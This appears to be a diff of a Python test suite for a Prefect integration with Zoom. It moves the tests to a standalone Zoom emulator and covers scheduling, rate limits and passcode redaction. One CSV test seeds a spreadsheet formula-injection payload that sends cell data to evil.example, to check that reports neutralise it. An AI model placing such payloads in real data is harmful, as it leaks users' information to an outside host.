@@ -23,8 +23,6 @@ from prefect.variables import Variable
 
 from prefect_zoom.capabilities import FLOW_REQUIREMENTS, capabilities
 from prefect_zoom.catalog import ALL_SCOPES, OPERATIONS
-from prefect_zoom.emulator import EmulatorConfig, ZoomEmulator
-from prefect_zoom.emulator.ratelimit import MEETING_WRITES_PER_DAY
 from prefect_zoom.flows import (
     ConnectionReport,
     RowResult,
@@ -34,6 +32,10 @@ from prefect_zoom.flows import (
     users_report,
 )
 from prefect_zoom.flows.schedule_meetings import AllRowsFailedError
+from zoom_emulator import EmulatorConfig, ZoomEmulator
+from zoom_emulator.models.meetings import Meeting
+from zoom_emulator.models.operations import all_scopes as emulator_scopes
+from zoom_emulator.models.ratelimit import MEETING_WRITES_PER_DAY
 
 START = (datetime.now(UTC) + timedelta(days=2)).replace(hour=15, minute=0, second=0, microsecond=0)
 START_TEXT = START.strftime("%Y-%m-%dT%H:%M:%SZ")
@@ -81,8 +83,8 @@ def artifact_data(state: State[Any], key: str) -> Any:
     return data
 
 
-def host_meetings(emulator: ZoomEmulator, email: str) -> list[dict[str, Any]]:
-    return [m for m in emulator.state.meetings.values() if m["host_email"] == email]
+def host_meetings(emulator: ZoomEmulator, email: str) -> list[Meeting]:
+    return [m for m in emulator.state.meetings.values() if m.host_email == email]
 
 
 # ---- capabilities ------------------------------------------------------------------------------
@@ -115,7 +117,7 @@ def test_check_connection_with_every_scope(zoom_emulator: ZoomEmulator, block_na
     owner = zoom_emulator.state.owner()
     assert (report.email, report.user_id) == (owner.email, owner.id)
     assert report.account_id == zoom_emulator.config.account_id
-    assert set(report.granted_scopes) == set(ALL_SCOPES)
+    assert set(report.granted_scopes) == set(emulator_scopes())  # what the emulator granted
     assert {a.name for a in report.activities} == set(OPERATIONS)
     assert {f.name for f in report.flows} == set(FLOW_REQUIREMENTS)
     assert all(item.can_run for item in report.activities + report.flows)
@@ -213,20 +215,21 @@ def check_results(zoom_emulator: ZoomEmulator, results: list[RowResult], links: 
     meetings = zoom_emulator.state.meetings
     assert results[0].meeting_id is not None and results[2].meeting_id is not None
     one_time, weekly = meetings[results[0].meeting_id], meetings[results[2].meeting_id]
-    assert one_time["topic"] == "Kick-off" and one_time["type"] == 2
-    assert one_time["start_time"] == START_TEXT and one_time["duration"] == 30
-    assert weekly["type"] == 8 and weekly["timezone"] == "Europe/Berlin"
-    assert weekly["recurrence"]["type"] == 2 and weekly["recurrence"]["weekly_days"] == "2,5"
-    assert len(weekly["occurrences"]) == 4 == results[2].occurrences
+    assert one_time.topic == "Kick-off" and one_time.type == 2
+    assert one_time.start_time == START_TEXT and one_time.duration == 30
+    assert weekly.type == 8 and weekly.timezone == "Europe/Berlin"
+    assert weekly.recurrence is not None and weekly.occurrences is not None
+    assert weekly.recurrence["type"] == 2 and weekly.recurrence["weekly_days"] == "2,5"
+    assert len(weekly.occurrences) == 4 == results[2].occurrences
     assert len(meetings) == 2
     # the join URL without its pwd= passcode
-    assert "pwd=" in one_time["join_url"]
-    assert results[0].join_url == one_time["join_url"].split("?")[0]
+    assert "pwd=" in one_time.join_url
+    assert results[0].join_url == one_time.join_url.split("?")[0]
     assert results[0].invite_links == links
     dumped = json.dumps([r.model_dump(mode="json") for r in results])
     assert "start_url" not in dumped and "abc123" not in dumped
-    assert one_time["start_url"] not in dumped
-    assert one_time["encrypted_password"] not in dumped
+    assert one_time.start_url not in dumped
+    assert one_time.encrypted_password not in dumped
 
 
 def test_schedule_meetings_from_a_list(zoom_emulator: ZoomEmulator, block_name: str) -> None:
@@ -330,7 +333,7 @@ def test_schedule_meetings_skips_a_host_after_zooms_daily_limit(
     for result in results[:3]:
         assert result.error and "daily limit" in result.error
         assert midnight.isoformat() in result.error
-    assert [m["topic"] for m in zoom_emulator.state.meetings.values()] == ["Other host"]
+    assert [m.topic for m in zoom_emulator.state.meetings.values()] == ["Other host"]
     # one request hit the limit; the host's other rows were not sent
     assert zoom_emulator.state.counters["rate_limited Daily-limit"] <= 3
 
@@ -424,8 +427,8 @@ def test_schedule_meetings_can_show_passcodes_when_asked(
     result: RowResult = state.result()[0]
     assert result.meeting_id is not None and result.join_url is not None
     meeting = zoom_emulator.state.meetings[result.meeting_id]
-    assert result.join_url == meeting["join_url"] and "pwd=" in result.join_url
-    assert artifact_data(state, "zoom-scheduled-meetings")[0]["join_url"] == meeting["join_url"]
+    assert result.join_url == meeting.join_url and "pwd=" in result.join_url
+    assert artifact_data(state, "zoom-scheduled-meetings")[0]["join_url"] == meeting.join_url
 
 
 # ---- reports -----------------------------------------------------------------------------------
@@ -490,7 +493,7 @@ def test_report_csv_holds_no_formulas_and_no_passcodes(
     hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
     meeting_id = seed_meeting(zoom_emulator, owner, hostile, START)
     seed_meeting(zoom_emulator, owner, "-2+3", START + timedelta(hours=1))
-    join_url = zoom_emulator.state.meetings[meeting_id]["join_url"]
+    join_url = zoom_emulator.state.meetings[meeting_id].join_url
     assert "?pwd=" in join_url
 
     path = meetings_report(block_name, user_ids=["me"], output_csv=str(tmp_path / "m.csv"))
